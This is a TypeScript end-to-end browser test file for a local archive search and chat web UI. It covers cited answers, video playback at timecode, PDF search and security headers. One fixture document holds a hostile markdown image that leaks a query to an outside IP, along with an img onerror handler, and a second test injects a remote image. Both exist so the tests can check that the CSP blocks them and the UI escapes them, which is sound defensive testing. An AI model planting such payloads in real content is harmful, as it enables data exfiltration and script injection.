/**
 * The web UI end to end, in Debian's chromium driven by playwright-core (never a downloaded browser),
 * against the real server (createApp) over a real archive: the sample rush with a hand-made .srt sidecar
 * (start TC 10:00:00:00), a 15-page PDF, a letter, and a document that carries a hostile markdown image.
 * Screenshots go to test-artifacts/.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { copyFileSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import { loadConfig } from '../../core/config.ts';
import { loadLlm } from '../../core/models/llm/load.ts';
import type { LlmBackend } from '../../core/models/llm/types.ts';
import { Archive } from '../../core/store/archive.ts';
import { createMediaExtractor, mediaExtensions } from '../../ingest/extract/media.ts';
import { registerExtractor } from '../../ingest/extract/registry.ts';
import { ingest } from '../../ingest/pipeline.ts';
import { buildWeb, type BuiltFile } from '../../scripts/build-web.ts';
import { createApp, type App } from '../../server/app.ts';
import { createGenerationQueue } from '../../server/chat/queue.ts';
import { createMediaRouter } from '../../server/http/media.ts';
import { contentSecurityPolicy } from '../../server/http/security.ts';
import { openAnswerStore } from '../../server/records/answer-store.ts';
import { needs, repoRoot, sampleCorpus, storiesModel, tempDir, testFfmpeg } from '../helpers/env.ts';
import { copySampleRushWithSidecar } from '../helpers/media-fixtures.ts';

const chromiumPath = '/usr/bin/chromium';
const sampleRush = path.join(sampleCorpus, 'audio', 'rush_A001_stewart_letter_1913.mp4');
const samplePdf = path.join(sampleCorpus, 'pdf', 'stewart_letters_XIII-XVIII_1911-1913.pdf');
const artifacts = path.join(repoRoot, 'test-artifacts');
const skip = needs(chromiumPath, 'Debian chromium (apt-get install chromium)') || needs(sampleRush, 'the shared sample archive');

interface Served {
  url: string;
  app: App;
  archive: Archive;
  built: BuiltFile[];
  close(): Promise<void>;
}

/** Builds the UI and an archive in a temp folder, and starts the real server on a free loopback port. */
async function serve(llm: LlmBackend | null): Promise<Served> {
  const tmp = tempDir('darkroom-web-');
  const home = path.join(tmp.dir, 'home');
  const docs = path.join(tmp.dir, 'archive');
  mkdirSync(docs);
  registerExtractor([...mediaExtensions], createMediaExtractor({ prefer: 'sidecar' }));
  const { file: rush, segments } = copySampleRushWithSidecar(sampleCorpus, docs);
  makeProResRush(rush, segments.slice(0, 2), path.join(docs, 'rush_A002_prores_camera_original.mov'));
  copyFileSync(samplePdf, path.join(docs, path.basename(samplePdf)));
  writeFileSync(
    path.join(docs, 'letter_1911_flood.txt'),
    'March 3, 1911\n\nDear Mother,\n\nThe school by the river reopened after the flood. The teacher, Miss Harriet Cole, came back on Monday.\n\nYour loving son, Thomas.',
  );
  writeFileSync(
    path.join(docs, 'press_cutting_hostile.md'),
    'The mill fire of 1912 destroyed the granary. ![receipt](http://203.0.113.9/leak.png?q=granary) <img src="http://203.0.113.9/px.gif" onerror="document.title=1">',
  );
  writeFileSync(path.join(docs, 'notes_blank.txt'), '   \n\n  ');
  const archive = await Archive.open({ home });
  const summary = await ingest({ archive, corpus: 'e2e', inputs: [docs], embedder: null });
  assert.deepEqual(summary.results.filter((r) => r.status === 'failed').map((r) => path.basename(r.path)), ['notes_blank.txt']);
  const webRoot = path.join(tmp.dir, 'web');
  const built = await buildWeb(webRoot);
  const config = loadConfig({ DARKROOM_HOME: home });
  const app = createApp({
    archive,
    embedder: () => Promise.resolve(null),
    llm: () => Promise.resolve(llm),
    store: await openAnswerStore(home),
    queue: createGenerationQueue(1),
    webRoot,
    extraRouters: [['/media', createMediaRouter({ archive, config })]],
  });
  await new Promise<void>((resolve) => app.http.listen(0, '127.0.0.1', () => resolve()));
  const { port } = app.http.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    app,
    archive,
    built,
    async close() {
      await app.close();
      archive.close();
      tmp.cleanup();
    },
  };
}

/** A camera-original-like ProRes + PCM .mov (no browser plays it) of the rush's first cues, with an .srt sidecar. */
function makeProResRush(rush: string, cues: Array<{ start_s: number; end_s: number; text: string }>, file: string): void {
  const last = cues[cues.length - 1];
  assert.ok(last, 'the sample rush has cues');
  const seconds = Math.ceil(last.end_s + 0.5);
  execFileSync(testFfmpeg(), ['-hide_banner', '-loglevel', 'error', '-y', '-i', rush, '-t', String(seconds), '-vf', 'scale=320:180', '-c:v', 'prores_ks', '-profile:v', '0', '-c:a', 'pcm_s16le', '-timecode', '20:00:00:00', file]);
  const srt = (s: number) => new Date(s * 1000).toISOString().slice(11, 23).replace('.', ',');
  writeFileSync(file.replace(/\.mov$/, '.srt'), cues.map((c, i) => `${i + 1}\n${srt(c.start_s)} --> ${srt(c.end_s)}\nInterviewer: ${c.text}\n`).join('\n'));
}

function launch(): Promise<Browser> {
  return chromium.launch({
    executablePath: chromiumPath,
    args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run', '--disable-dev-shm-usage', '--autoplay-policy=no-user-gesture-required'],
  });
}

async function shot(page: Page, name: string): Promise<void> {
  mkdirSync(artifacts, { recursive: true });
  await page.screenshot({ path: path.join(artifacts, `web-${name}.png`) });
}

async function askInUi(page: Page, question: string): Promise<void> {
  await page.getByTestId('question').fill(question);
  await page.getByTestId('ask').click();
}

describe('the web UI in a real browser', { skip }, () => {
  let served: Served;
  let browser: Browser;
  let page: Page;
  /** Requests that got an answer, and requests the browser refused or could not send, with the reason. */
  const finished: string[] = [];
  const failed: Array<{ url: string; why: string }> = [];
  const sockets: string[] = [];
  const firstLoad: Array<{ url: string; bytes: number }> = [];

  before(async () => {
    served = await serve(null);
    browser = await launch();
    page = await browser.newPage({ viewport: { width: 1440, height: 900 }, locale: 'en-US' });
    page.on('requestfinished', (r) => finished.push(r.url()));
    page.on('requestfailed', (r) => failed.push({ url: r.url(), why: r.failure()?.errorText ?? '' }));
    page.on('websocket', (ws) => sockets.push(ws.url()));
  });
  after(async () => {
    await browser?.close();
    await served?.close();
  });

  it('loads from this server only, with the CSP, and reports what the first load weighs', async () => {
    const onResponse = async (r: import('playwright-core').Response) => {
      if (r.url().startsWith(served.url) && !r.url().includes('/socket.io/')) firstLoad.push({ url: r.url().slice(served.url.length), bytes: (await r.body()).length });
    };
    page.on('response', onResponse);
    const response = await page.goto(served.url, { waitUntil: 'networkidle' });
    page.off('response', onResponse);
    assert.equal(response?.headers()['content-security-policy'], contentSecurityPolicy);
    const api = await page.request.get(`${served.url}/api/corpora`);
    assert.equal(api.headers()['content-security-policy'], contentSecurityPolicy, 'the API answers carry the CSP too');
    await page.waitForFunction(() => (document.querySelector('[data-testid="corpus"]') as HTMLSelectElement | null)?.value === 'e2e');
    const total = firstLoad.reduce((s, f) => s + f.bytes, 0);
    mkdirSync(artifacts, { recursive: true });
    writeFileSync(path.join(artifacts, 'web-first-load.json'), JSON.stringify({ files: firstLoad, total_bytes: total, built: served.built }, null, 2));
    console.log(`first load: ${firstLoad.map((f) => `${f.url} ${f.bytes} B`).join(', ')}; total ${total} B`);
    assert.ok(firstLoad.some((f) => f.url.startsWith('/app.js')), 'the bundle was loaded');
    assert.ok(total < 300_000, `the first load is ${total} B`);
  });

  it('blocks a remote image by CSP even if one reached the page, while the same-origin websocket works', async () => {
    const blocked = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
          const img = document.createElement('img');
          img.src = 'http://203.0.113.9/leak.png';
          document.body.appendChild(img);
          setTimeout(() => resolve('not blocked'), 3000);
        }),
    );
    assert.match(blocked, /^img-src/);
    await page.evaluate(() => document.querySelectorAll('img').forEach((i) => i.remove()));
    assert.ok(!finished.some((u) => u.includes('203.0.113.9')), 'the blocked image never left');
    assert.match(failed.find((f) => f.url.includes('203.0.113.9'))?.why ?? '', /blocked|csp/i);
    await askInUi(page, 'Jerrine');
    await page.locator('.turn').first().locator('li.card').first().waitFor({ timeout: 20_000 });
    assert.ok(sockets.some((u) => u.startsWith(served.url.replace('http:', 'ws:'))), `socket.io upgraded to a same-origin websocket: ${sockets.join(', ')}`);
    await page.getByRole('button', { name: /New conversation/ }).click();
  });

  it('streams an answer with citation cards, and a rush citation plays at its cited start showing source TC', async () => {
    await askInUi(page, 'How many potatoes did Jerrine raise?');
    const card = page.locator('[data-testid="citation-cards"] li.card[data-kind="media"]').first();
    await card.waitFor({ timeout: 20_000 });
    const start = Number(await card.getAttribute('data-start-s'));
    assert.ok(Number.isFinite(start) && start > 0, 'the rush citation has a start time');
    assert.match(await card.locator('.card-place').innerText(), /^TC 10:00:\d\d:\d\d – 10:00:\d\d:\d\d$/);
    await shot(page, '1-chat-answer');
    await card.locator('.card-head').click();
    await page.waitForFunction(() => {
      const v = document.querySelector('video');
      return v !== null && v.readyState >= 1 && !v.seeking && v.currentTime > 0;
    }, undefined, { timeout: 20_000 });
    const current = await page.evaluate(() => document.querySelector('video')?.currentTime ?? -1);
    const moment = Number(await card.getAttribute('data-moment-s'));
    assert.ok(moment >= start, `the words' moment ${moment} s is inside the passage starting at ${start} s`);
    const from = Math.max(0, moment - 1);
    assert.ok(Math.abs(current - from) < 0.5, `the player is at ${current} s: the words are spoken at ${moment} s, less the 1 s pre-roll`);
    const tc = await page.getByTestId('player-tc').innerText();
    assert.match(tc, /^10:00:\d\d:\d\d$/);
    const [, , ss] = tc.split(':').map(Number);
    assert.ok(Math.abs((ss ?? -9) - Math.floor(current)) <= 1, `the TC ${tc} follows the player at ${current} s`);
    await shot(page, '2-rush-playing');
  });

  it('stops at the cited out point, or loops back to where it started (the words, less the pre-roll) when the user chooses loop', async () => {
    const card = page.locator('[data-testid="citation-cards"] li.card[data-kind="media"]').first();
    const [start, end] = [Math.max(0, Number(await card.getAttribute('data-moment-s')) - 1), Number(await card.getAttribute('data-end-s'))];
    const playNearEnd = (e: number) =>
      page.evaluate(async (at) => {
        const v = document.querySelector('video');
        if (!v) throw new Error('no player');
        v.currentTime = at - 0.6;
        await v.play();
      }, e);
    await playNearEnd(end);
    await page.waitForFunction(() => document.querySelector('video')?.paused === true, undefined, { timeout: 10_000 });
    const stoppedAt = await page.evaluate(() => document.querySelector('video')?.currentTime ?? -1);
    assert.ok(Math.abs(stoppedAt - end) < 0.3, `stopped at ${stoppedAt} s, the out point is ${end} s`);
    await page.locator('label.seg').filter({ hasText: 'loop' }).click();
    await playNearEnd(end);
    await page.waitForFunction((s) => {
      const v = document.querySelector('video');
      return v !== null && !v.paused && v.currentTime < s + 2;
    }, start, { timeout: 10_000 });
    await page.locator('label.seg').filter({ hasText: 'stop' }).click();
  });

  it('steps one frame with the arrow keys, and the source TC moves by exactly one frame', async () => {
    await page.evaluate(() => {
      const v = document.querySelector('video');
      v?.pause();
      if (v) v.currentTime = 20;
      (document.activeElement as HTMLElement | null)?.blur();
    });
    await page.waitForFunction(() => document.querySelector('video')?.seeking === false);
    await page.waitForFunction(() => document.querySelector('[data-testid="player-tc"]')?.textContent === '10:00:20:00');
    await page.keyboard.press('ArrowRight');
    await page.waitForFunction(() => document.querySelector('[data-testid="player-tc"]')?.textContent === '10:00:20:01');
    const at = await page.evaluate(() => document.querySelector('video')?.currentTime ?? -1);
    assert.ok(Math.abs(at - 20.04) < 0.005, `one frame at 25 fps after 20 s is 20.04 s, the player is at ${at}`);
    await page.keyboard.press('Shift+ArrowLeft');
    await page.waitForFunction(() => document.querySelector('[data-testid="player-tc"]')?.textContent === '10:00:19:01');
  });

  it('shows the chain behind an extractive answer: the mode, the retrieved passages, no model', async () => {
    await page.getByTestId('open-chain').last().click();
    await page.getByTestId('chain-mode').waitFor();
    assert.match(await page.getByTestId('chain-mode').innerText(), /Extractive/);
    assert.match(await page.getByTestId('chain-model').innerText(), /none \(extractive\)/);
    assert.ok((await page.locator('.chain-passages li').count()) > 0, 'the retrieved passages are listed');
    assert.ok((await page.locator('.chain-passages li.cited').count()) > 0, 'the cited ones are marked');
    assert.match(await page.getByTestId('chain-cost').innerText(), /not measurable here/);
    await shot(page, '3-chain-extractive');
    await page.getByRole('button', { name: 'Replay' }).click();
    await page.getByTestId('replay-status').filter({ hasText: /byte-identical/ }).waitFor({ timeout: 20_000 });
  });

  it('renders a hostile markdown image and HTML from a document as text, and nothing leaves for another host', async () => {
    await askInUi(page, 'What did the mill fire of 1912 destroy?');
    const answer = page.getByTestId('answer-text').last();
    await page.waitForFunction(() => [...document.querySelectorAll('[data-testid="citation-cards"]')].pop()?.querySelector('li.card') !== null, undefined, { timeout: 20_000 });
    assert.equal(await answer.locator('img, a, script').count(), 0);
    const cardText = await page.locator('[data-testid="citation-cards"]').last().innerText();
    assert.match(cardText, /203\.0\.113\.9\/leak\.png/, 'the markdown shows as characters');
    assert.equal(await page.locator('img').count(), 0, 'no image element anywhere');
    const foreign = finished.filter((u) => !u.startsWith(served.url) && !u.startsWith('data:'));
    assert.deepEqual(foreign, []);
    assert.notEqual(await page.title(), '1');
  });

  it('opens a document citation with the passage highlighted in its text', async () => {
    await askInUi(page, 'When did the school by the river reopen after the flood?');
    const card = page.locator('[data-testid="citation-cards"]').last().locator('li.card[data-kind="letter"]').first();
    await card.waitFor({ timeout: 20_000 });
    await card.locator('.card-head').click();
    const mark = page.getByTestId('doc-highlight');
    await mark.waitFor();
    assert.match(await mark.innerText(), /reopened after the flood/);
    await shot(page, '4-document-highlight');
  });

  it('searches without the LLM with a kind filter, and a PDF hit opens the PDF at its page', async () => {
    await page.locator('nav button[data-view="search"]').click();
    await page.getByTestId('search-query').fill('Bismarck Chub laziest horse');
    await page.locator('#view-search select').first().selectOption('pdf');
    await page.locator('#view-search button[type="submit"]').click();
    const card = page.locator('[data-testid="search-results"] li.card').first();
    await card.waitFor({ timeout: 10_000 });
    assert.equal(await card.getAttribute('data-kind'), 'pdf');
    const pageNumber = await card.getAttribute('data-page');
    assert.equal(pageNumber, '7');
    await card.locator('.card-head').click();
    const src = await page.getByTestId('pdf-frame').getAttribute('src');
    assert.match(src ?? '', /^\/media\/[\w-]+#page=7$/);
    const pdf = await page.evaluate(async (u) => {
      const r = await fetch(u);
      return { type: r.headers.get('content-type'), head: new TextDecoder().decode((await r.arrayBuffer()).slice(0, 5)) };
    }, (src ?? '').split('#')[0] ?? '');
    assert.deepEqual(pdf, { type: 'application/pdf', head: '%PDF-' });
    await shot(page, '5-search-pdf');
  });

  it('plays a ProRes camera original through its proxy, where the searched words are spoken, on its own source TC', async () => {
    await page.getByTestId('search-query').fill('Christmas grippe');
    await page.locator('#view-search select').first().selectOption('media');
    await page.locator('#view-search button[type="submit"]').click();
    const card = page.locator('[data-testid="search-results"] li.card').filter({ hasText: 'rush_A002_prores_camera_original.mov' }).first();
    await card.waitFor({ timeout: 10_000 });
    const start = Number(await card.getAttribute('data-start-s'));
    await card.locator('.card-head').click();
    await page.waitForFunction(() => {
      const v = document.querySelector('video');
      return v !== null && v.readyState >= 1 && !v.seeking && v.currentTime > 0;
    }, undefined, { timeout: 60_000 });
    const current = await page.evaluate(() => document.querySelector('video')?.currentTime ?? -1);
    const moment = Number(await card.getAttribute('data-moment-s'));
    assert.ok(moment > start, `"Christmas grippe" is spoken at ${moment} s, after the passage's in point ${start} s`);
    assert.ok(Math.abs(current - Math.max(0, moment - 1)) < 0.5, `the proxy plays at ${current} s, the words are spoken at ${moment} s (1 s pre-roll)`);
    assert.match(await page.getByTestId('player-tc').innerText(), /^20:00:\d\d:\d\d$/);
    assert.match(await card.locator('.card-speaker').innerText(), /Interviewer/);
    await shot(page, '5b-prores-proxy');
  });

  it('lists the sources of the corpus with kind, state and length', async () => {
    await page.locator('nav button[data-view="sources"]').click();
    const table = page.getByTestId('sources-table');
    await table.locator('tbody tr').nth(5).waitFor();
    const text = await table.innerText();
    assert.match(text, /rush_A001_stewart_letter_1913\.mp4/);
    assert.match(text, /46 s/);
    assert.match(text, /15 p\./);
    const failed = table.locator('tr.state-failed');
    assert.equal(await failed.count(), 1);
    assert.match(await failed.innerText(), /notes_blank\.txt[\s\S]*failed[\s\S]*white space/);
    await shot(page, '6-sources');
  });

  it('reopens a past conversation and switches the interface to French', async () => {
    await page.locator('nav button[data-view="chat"]').click();
    assert.equal(await page.locator('#side').isHidden(), true, 'the sources screen closed the side pane');
    await page.getByRole('button', { name: /New conversation/ }).click();
    assert.equal(await page.getByTestId('history').locator('button').count(), 2);
    await page.getByTestId('history').locator('button').filter({ hasText: 'potatoes' }).first().click();
    await page.locator('.turn .question').filter({ hasText: 'potatoes' }).waitFor();
    assert.equal(await page.locator('.turn').count(), 3, 'the two follow-up questions stayed in the conversation');
    await page.locator('#lang').click();
    await page.waitForLoadState('networkidle');
    await page.locator('nav button[data-view="chat"]').filter({ hasText: 'Questions' }).waitFor();
    await page.locator('.turn .question').first().waitFor();
    assert.equal(await page.evaluate(() => document.documentElement.lang), 'fr');
    await shot(page, '7-french-reopened');
  });
});

describe('the chain panel with a real local model', { skip: skip || needs(storiesModel, 'the stories260K GGUF test model') }, () => {
  let served: Served;
  let browser: Browser;
  let llm: LlmBackend | null = null;

  before(async () => {
    llm = await loadLlm(loadConfig({ DARKROOM_LLM_MODEL: storiesModel, DARKROOM_THREADS: '1', DARKROOM_GPU: 'false', DARKROOM_HOME: path.join(repoRoot, 'data', 'unused') }));
    served = await serve(llm);
    browser = await launch();
  });
  after(async () => {
    await browser?.close();
    await served?.close();
    await llm?.dispose();
  });

  it('streams the answer in, shows the exact prompt and the GGUF file hash, and stops an answer on request', async () => {
    const page = await browser.newPage({ viewport: { width: 1440, height: 900 }, locale: 'en-US' });
    await page.goto(served.url);
    await askInUi(page, 'How many potatoes did Jerrine raise?');
    await page.waitForFunction(
      () => (document.querySelector('[data-testid="answer-text"]')?.textContent ?? '').length > 0 && !document.querySelector('[data-testid="open-chain"]'),
      undefined,
      { timeout: 60_000, polling: 20 },
    );
    await page.getByTestId('open-chain').first().click({ timeout: 60_000 });
    const sha = createHash('sha256').update(readFileSync(storiesModel)).digest('hex');
    assert.equal(await page.getByTestId('chain-sha256').innerText(), sha);
    assert.match(await page.getByTestId('chain-mode').innerText(), /LLM/);
    const prompt = await page.getByTestId('chain-prompt').innerText();
    assert.match(prompt, /potatoes/);
    await shot(page, '8-chain-llm');
    assert.ok(existsSync(path.join(artifacts, 'web-8-chain-llm.png')));
    await askInUi(page, 'And what did she do with the potatoes after that?');
    await page.waitForFunction(() => (document.querySelectorAll('[data-testid="answer-text"]')[1]?.textContent ?? '').length > 0, undefined, { timeout: 60_000, polling: 20 });
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.locator('.turn').nth(1).locator('.answer-meta').filter({ hasText: 'Stopped.' }).waitFor({ timeout: 10_000 });
    assert.equal(await page.getByRole('button', { name: 'Ask' }).isEnabled(), true, 'the next question can be asked');
  });
});
